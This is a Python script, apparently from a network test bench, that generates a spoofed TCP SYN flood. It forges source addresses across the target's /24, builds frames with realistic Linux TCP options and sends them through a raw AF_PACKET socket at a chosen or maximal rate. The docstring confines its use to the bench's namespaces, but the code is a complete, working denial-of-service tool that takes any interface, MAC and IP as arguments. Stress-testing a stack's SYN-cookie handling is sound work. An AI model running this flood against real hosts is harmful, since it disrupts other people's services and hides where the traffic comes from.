#!/usr/bin/env python3
"""A spoofed SYN flood written onto IFACE with an AF_PACKET socket, for the
bench's SYN-flood part (always inside the bench's own namespaces).

  syn_flood.py IFACE DST_MAC DST_IP DPORT SECONDS [PPS]

Sources are spoofed from DST_IP's /24 (hosts .10 to .249, none of which
exists, so every SYN-ACK waits on a neighbour that never answers, on the
stack and on Linux alike), with random ports and sequence numbers. Each SYN
carries the options a Linux client sends (MSS, SACK permitted, timestamps,
window scale), so a SYN cookie has to encode them. PPS (0 or absent: as
fast as the socket takes them) paces the sending. Stops after SECONDS (and
at most 50 million frames); prints "flooding" when it starts and a JSON line
{"sent", "refused", "seconds"} at the end."""
import json
import os
import random
import socket
import struct
import sys
import time

iface, dst_mac, dst_ip, dport, secs = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
pps = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0
MAX_FRAMES = 50_000_000


def mac(s):
    return bytes(int(x, 16) for x in s.strip().split(":"))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


with open(f"/sys/class/net/{iface}/address") as f:
    src_mac = mac(f.read())
eth = mac(dst_mac) + src_mac + b"\x08\x00"
daddr = socket.inet_aton(dst_ip)
rng = random.Random(0x5F1D)


def syn(i):
    saddr = daddr[:3] + bytes([10 + i % 240])
    sport = rng.randrange(1024, 65536)
    seq = rng.getrandbits(32)
    # MSS 1460, SACK permitted, timestamps, NOP, window scale 7: Linux's SYN.
    opts = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" + struct.pack("!BBII", 8, 10, rng.getrandbits(32), 0) + b"\x01\x03\x03\x07"
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (20 + len(opts)) // 4 << 4, 0x02, 64240, 0, 0) + opts
    pseudo = saddr + daddr + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0x4000, 64, 6, 0, saddr, daddr)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return eth + ip + tcp


frames = [syn(i) for i in range(8192)]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
s.setblocking(False)
print("flooding", flush=True)
sent = refused = 0
start = time.monotonic()
end = start + secs
n = len(frames)
while sent + refused < MAX_FRAMES:
    for f in frames[(sent + refused) % n:(sent + refused) % n + 256] or frames[:256]:
        try:
            s.send(f)
            sent += 1
        except (BlockingIOError, OSError):
            # The device's queue is full: the frame is lost here, as a flood's would be.
            refused += 1
    now = time.monotonic()
    if now >= end:
        break
    if pps:
        ahead = (sent + refused) / pps - (now - start)
        if ahead > 0:
            time.sleep(min(ahead, end - now))
print(json.dumps({"sent": sent, "refused": refused, "seconds": time.monotonic() - start}), flush=True)
